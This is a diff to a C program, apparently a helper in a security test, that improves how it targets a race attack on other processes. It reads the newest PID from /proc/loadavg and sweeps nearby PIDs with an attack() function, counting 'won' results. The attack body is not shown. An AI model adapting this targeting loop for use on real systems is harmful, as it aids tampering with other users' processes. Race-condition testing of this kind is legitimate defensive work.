@@ -35,6 +35,15 @@ static void attack(pid_t pid, const char *executable) {
   }
 }
 
+/* The number that was given out last: thousands of launches lead far away from where they began. */
+static pid_t newest(void) {
+  FILE *file = fopen("/proc/loadavg", "r");
+  int pid = 0;
+  if (file && fscanf(file, "%*s %*s %*s %*s %d", &pid) != 1) pid = 0;
+  if (file) fclose(file);
+  return pid;
+}
+
 int main(int argc, char **argv) {
   if (argc < 4) return 1;
   time_t end = time(0) + atoi(argv[2]);
@@ -42,9 +51,13 @@ int main(int argc, char **argv) {
   signal(SIGINT, on_signal);
   printf("ready OK\n");
   fflush(stdout);
-  while (!stop && time(0) < end)
-    for (pid_t pid = from; !stop && pid < from + 4000; pid++)
+  while (!stop && time(0) < end) {
+    pid_t last = newest();
+    /* Numbers begin again after the highest; what is older than us is of no interest. */
+    pid_t oldest = last >= from && last - 2000 < from ? from : last - 2000;
+    for (pid_t pid = oldest > 2 ? oldest : 2; !stop && pid < last + 300; pid++)
       if (pid != self) attack(pid, argv[1]);
+  }
   printf("looked %ld\nwon %ld\nlater %ld\n", looked, won, later);
   return 0;
 }
